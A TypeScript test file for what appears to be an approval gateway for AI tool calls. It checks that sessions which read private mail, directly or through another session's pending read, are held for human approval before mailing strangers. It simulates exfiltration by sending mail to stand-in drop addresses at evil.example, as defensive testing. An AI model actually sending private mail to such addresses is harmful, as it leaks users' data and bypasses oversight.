import { expect, it, vi } from 'vitest';
import { startAppWithModel } from '../helpers/app.ts';
import { PERMISSIONS_FILE } from '../helpers/dialogue-world.ts';

const KEY = 'a-key-of-a-program-that-asks-2718';
const REVISION = '2026-07-28';
const TASKS = 'io.modelcontextprotocol/tasks';

/**
 * A program whose policy allows everything, so that only risk makes anybody be asked, and whose session `A` has read mail
 * and sent one: its read of a page of strangers waits.
 */
async function startWithPendingRead() {
  const { app, driver } = await startAppWithModel({
    env: { COUNTERSIGN_API_KEY: KEY },
    file: {
      programs: { env: { title: 'Builder', for: 'U0ANA00001', channel: 'C0GENERAL1' } },
      policy: { default: 'allow' },
      risk: { permissions: PERMISSIONS_FILE },
      mcpServers: {
        inbox: {
          command: process.execPath,
          args: [new URL('../fixtures/servers/inbox.ts', import.meta.url).pathname, '$FOLDER'],
          trusted: true,
        },
      },
    },
  });
  let id = 0;
  async function ask(
    session: string,
    method: string,
    params: Record<string, unknown>,
    extensions: object = { [TASKS]: {} },
  ) {
    const _meta = {
      'io.modelcontextprotocol/protocolVersion': REVISION,
      'io.modelcontextprotocol/clientInfo': { name: 'test', version: '1' },
      'io.modelcontextprotocol/clientCapabilities': { extensions },
    };
    id += 1;
    const response = await fetch(`${app.url}/mcp`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${KEY}`,
        'content-type': 'application/json',
        accept: 'application/json, text/event-stream',
        'mcp-protocol-version': REVISION,
        'mcp-session-id': session,
        'mcp-method': method,
        'mcp-name': String(Object.values(params)[0]),
      },
      body: JSON.stringify({ jsonrpc: '2.0', id, method, params: { ...params, _meta } }),
    });
    const said = await response.text();
    const data = said.split('\n').findLast((line) => line.startsWith('data: '));
    return JSON.parse(data?.slice('data: '.length) ?? said).result;
  }
  /** A call that waits is answered at once, with a task. */
  const call = (session: string, name: string, args: object = {}) =>
    ask(session, 'tools/call', { name, arguments: args });
  await call('A', 'inbox__read_mail');
  await call('A', 'inbox__send_mail', { to: 'boss@acme.example' });
  const { taskId } = await call('A', 'inbox__read_page');
  return {
    ask,
    /** A call that waits is answered once it has ended. */
    hold: (session: string, name: string, args: object = {}) =>
      ask(session, 'tools/call', { name, arguments: args }, {}),
    taskId,
    async approve() {
      const card = await driver.waitForMessage((message) => driver.text(message).includes('[Approve]'));
      await driver.as('ana').click(card, 'Approve');
    },
    /** Whether a mail to a stranger waits for people, after the session has read private mail too. */
    async isAsked(session: string) {
      await call(session, 'inbox__read_mail');
      const sent = await call(session, 'inbox__send_mail', { to: `drop-${session}@evil.example` });
      return sent.resultType === 'task';
    },
  };
}

type Gate = Awaited<ReturnType<typeof startWithPendingRead>>;

it.each<[string, (gate: Gate) => Promise<unknown>]>([
  ['the same call', (gate) => gate.hold('B', 'inbox__read_page')],
  [
    'its task',
    (gate) =>
      vi.waitUntil(
        async () => {
          const task = await gate.ask('B', 'tasks/get', { taskId: gate.taskId });
          return task.status === 'completed' && task.result;
        },
        { timeout: 30_000, interval: 200 },
      ),
  ],
  ['its id', (gate) => gate.hold('B', 'countersign__await', { request_id: gate.taskId })],
])(
  'a session that gets what another one has read, by %s, is judged by it; one that does not is not',
  async (_, read) => {
    const gate = await startWithPendingRead();
    const answer = read(gate);
    await gate.approve();
    expect(JSON.stringify(await answer)).toContain('drop@evil.example');
    expect(await gate.isAsked('B')).toBe(true);
    expect(await gate.isAsked('C')).toBe(false);
  },
);
